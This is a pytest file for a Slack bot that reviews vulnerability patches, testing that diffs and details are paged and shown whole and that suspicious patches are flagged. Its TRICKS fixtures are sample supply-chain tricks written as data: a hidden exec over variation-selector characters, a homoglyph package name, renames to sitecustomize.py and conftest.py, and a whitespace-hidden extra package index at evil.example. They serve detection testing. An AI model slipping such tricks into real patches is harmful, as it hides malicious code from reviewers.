"""View diff and Details together show everything that the digest covers, whatever its length."""

import json
from dataclasses import fields, replace
from typing import Any
from urllib.parse import urlencode

import pytest

from bot.blocks import ids, pages, pull_request
from bot.blocks.card import card
from bot.blocks.kit import View
from bot.blocks.limits import problems
from bot.domain.apv import NOT_JUDGED, Apv, PatchStrategy, Severity, WargameVerdict
from bot.domain.quorum import Tally
from bot.domain.review import Dossier
from bot.sandbox.slack.blockkit import visible_texts
from handlers.slack.route import BODY_LIMIT
from tests.unit.blocks import AIOHTTP, PYYAML, dossier

HEAD = "--- a/requirements.txt\n+++ b/requirements.txt\n@@ -1 +1 @@\n-requests==2.30.0\n+requests==2.31.0"
DISTINCT: dict[str, Any] = {
    "severity": Severity.LOW,
    "severity_assumed": True,
    "kev": True,
    "patch_strategy": PatchStrategy.CONFIG_CHANGE,
    "wargame_verdict": WargameVerdict.PARTIAL,
    "wargame_evidence": {"attack": ["evidence-one", {"step": "evidence-\u202etwo"}], "n": 12345},
    "patch_diff": HEAD + "\n",
    "confirmed": False,
    "validation_passed": False,
}
SHOWN_AS: dict[str, tuple[str, ...]] = {
    "severity_assumed": ("low (assumed)",),
    "kev": ("Known exploited (CISA KEV): yes",),
    "patch_strategy": ("config_change",),
    "wargame_evidence": ("evidence-one", "evidence-[U+202E]two", "12345"),
    "confirmed": ("Confirmed: no",),
    "validation_passed": ("Validation passed: no",),
}


def value_of(field: Any, number: int) -> object:
    """A value that no other field has."""
    if field.name in DISTINCT:
        return DISTINCT[field.name]
    if "tuple" in str(field.type):
        return tuple(f"{field.name}-{n}" for n in range(40))
    return number / 1000 if "float" in str(field.type) else f"{field.name}-value"


def all_pages(draw: Any, case: Dossier) -> list[View]:
    """Every page, as a reader gets them by pressing Next."""
    found, page = [], 0
    while True:
        found.append(draw(case, page))
        turns = {
            b["action_id"]: b for block in found[-1]["blocks"] if block["type"] == "actions" for b in block["elements"]
        }
        assert (ids.PREVIOUS in turns) == (page > 0)
        if ids.NEXT not in turns:
            return found
        value, page = ids.decode_page(turns[ids.NEXT]["value"])
        assert ids.decode(value) == (case.review.id, case.review.digest, case.review.version)


def words(views: list[View]) -> str:
    return "\n".join(text for view in views for text in visible_texts(view["blocks"]))


def test_every_field_of_the_digest_can_be_read() -> None:
    """A field added to Apv must be added to Details, or this test fails."""
    values: dict[str, Any] = {field.name: value_of(field, number) for number, field in enumerate(fields(Apv), 101)}
    case = dossier(Apv(**values))
    said = words([*all_pages(pages.details_view, case), *all_pages(pages.diff_view, case)])
    for name, value in values.items():
        if name in NOT_JUDGED:
            continue
        expected = SHOWN_AS.get(name) or (value if isinstance(value, tuple) else tuple(str(value).split("\n")))
        for part in expected:
            assert str(part).rstrip() in said, name
    assert case.review.digest in said


def test_a_diff_of_a_mebibyte_is_shown_whole() -> None:
    """Every line is on one page, in order; each page says which it is, and Slack takes it."""
    lines = [f"+line {n} \U0001f480" + " pad" * (n % 30) for n in range(12_000)]
    case = dossier(
        replace(AIOHTTP, patch_diff="\n".join(["--- /dev/null", "+++ b/x", "@@ -0,0 +1,12000 @@", *lines, ""]))
    )
    views = all_pages(pages.diff_view, case)
    assert len(views) > 5
    for number, view in enumerate(views, 1):
        assert problems(view) == []
        assert f"page {number} of {len(views)}" in words([view])
    said = words(views).split("\n")
    assert [line for line in said if line.startswith("+line")] == lines


@pytest.mark.parametrize("character", ['"', "{", "\U0001f480", "\u202e", "\\", "é"])
def test_a_click_on_a_page_is_not_too_large_for_us(character: str) -> None:
    """Slack sends the whole page with the click, as a form."""
    diff = "--- /dev/null\n+++ b/x\n@@ -0,0 +1,900 @@\n" + f"+{character * 100}\n" * 900
    views = all_pages(pages.diff_view, dossier(replace(AIOHTTP, patch_diff=diff)))
    assert len(views) > 1
    for view in views:
        assert len(urlencode({"payload": json.dumps({"view": view})})) < BODY_LIMIT - 20_000


def test_long_values_of_details_are_shown_whole() -> None:
    """Nothing is cut, however long; hidden characters are named."""
    long = " ".join(f"word-{n}" for n in range(20_000)) + "\u202eend"
    case = dossier(replace(AIOHTTP, cve_description=long, validation_warnings=("w" * 60_000, "last-warning")))
    views = all_pages(pages.details_view, case)
    assert all(problems(view) == [] for view in views)
    said = "".join(text for view in views for text in visible_texts(view["blocks"][2:-1])).replace("\n", "")
    assert long.replace("\u202e", "[U+202E]") in said
    assert "w" * 60_000 in said
    assert "last-warning" in said


def test_another_content_is_announced() -> None:
    """A page of content that has changed since the click is page one of the new content, and says so."""
    case = dossier(PYYAML, version=3)
    for draw in (pages.diff_view, pages.details_view):
        assert "has changed since you opened this. Version 3 is shown now." in words([draw(case, 5, seen="0" * 64)])
        assert "has changed" not in words([draw(case, 0, seen=case.review.digest)])


def test_a_value_cannot_pose_as_another_fact() -> None:
    """A line feed in a value of one line is shown."""
    case = dossier(replace(AIOHTTP, cve_title="Harmless\nSeverity: low"))
    assert "Title: Harmless[U+000A]Severity: low" in words(all_pages(pages.details_view, case))


MOVED = "\ndiff --git a/{0} b/{1}\nsimilarity index 100%\n{2} from {0}\n{2} to {1}\n"
FOLD = "".join(f"\n-a{n}\n+b{n}" for n in range(40))
ACTION = "diff --git a/{0} b/{0}\nnew file mode 100644\n--- /dev/null\n+++ b/{0}\n@@ -0,0 +1 @@\n+x\n"
TRICKS: dict[str, tuple[str, tuple[str, ...]]] = {
    "a rename below the fold": (
        HEAD.replace("-1 +1", "-1,41 +1,41")
        + FOLD
        + MOVED.format("tests/data/sample.py", "shop/sitecustomize.py", "rename"),
        ("⚠️ shop/sitecustomize.py · renamed from tests/data/sample.py",),
    ),
    "a copy": (HEAD + MOVED.format("x.py", "conftest.py", "copy"), ("⚠️ conftest.py · copied from x.py",)),
    "variation selectors": (
        "--- a/src/app.py\n+++ b/src/app.py\n@@ -1 +1,2 @@\n print('hello')\n+exec(d('❤\U000e0155\U000e015d'))\n",
        ("❤[U+E0155][U+E015D]", "⚠️ The patch contains hidden characters"),
    ),
    "a homoglyph": (
        HEAD.replace("+requests", "+reque\u0455ts") + "\n",
        ("⚠️ Words in the patch mix letters of different scripts: reque[U+0455]ts.",),
    ),
    "a tail far to the right": (
        HEAD + " " * 200 + "--extra-index-url https://evil.example/simple\n",
        ("[200 spaces]--extra-index-url https://evil.example/simple",),
    ),
    "a new composite action": (
        ACTION.format(".github/actions/setup/action.yml"),
        (".github/actions/setup/action.yml · new · +1 -0",),
    ),
    "what git cannot read": (HEAD, ("⚠️ The files of this patch cannot be listed",)),
}


@pytest.mark.parametrize("trick", TRICKS)
def test_no_trick_stays_unseen(trick: str) -> None:
    """On the card; and in the diff, Details or the pull request, where it has a place there."""
    diff, expected = TRICKS[trick]
    case = dossier(replace(AIOHTTP, patch_diff=diff))
    drawn = card(case, Tally(0, 1))
    assert problems(drawn) == []
    on_card = "\n".join(visible_texts(drawn.blocks)).replace("\u200b", "")
    in_diff = words(all_pages(pages.diff_view, case))
    for part in expected:
        assert part in on_card
        assert part in in_diff
    path_or_warning = expected[-1]
    if "[200" not in path_or_warning:
        assert path_or_warning in words(all_pages(pages.details_view, case))
        assert path_or_warning in pull_request.body(case, ())


def test_a_package_of_mixed_scripts_is_announced() -> None:
    """Also where the patch is ordinary."""
    case = dossier(replace(AIOHTTP, package_name="reque\u0455ts"))
    said = "The package's name mixes letters of different scripts: reque[U+0455]ts."
    assert said in "\n".join(visible_texts(card(case, Tally(0, 1)).blocks))
    assert said in words(all_pages(pages.details_view, case))


def test_a_patch_of_many_files_names_the_unusual_ones_first() -> None:
    """The card says how many more there are; Details has all of them."""
    many = "".join(ACTION.format(f"src/file{n}.py") for n in range(60)) + MOVED.format("a", "zz.py", "rename").lstrip(
        "\n"
    )
    case = dossier(replace(AIOHTTP, patch_diff=many))
    on_card = "\n".join(visible_texts(card(case, Tally(0, 1)).blocks))
    assert "⚠️ zz.py · renamed from a" in on_card
    assert "61 files · +60 -0 · 49 more files under Details" in on_card
    in_details = words(all_pages(pages.details_view, case))
    assert all(f"src/file{n}.py · new" in in_details for n in range(60))
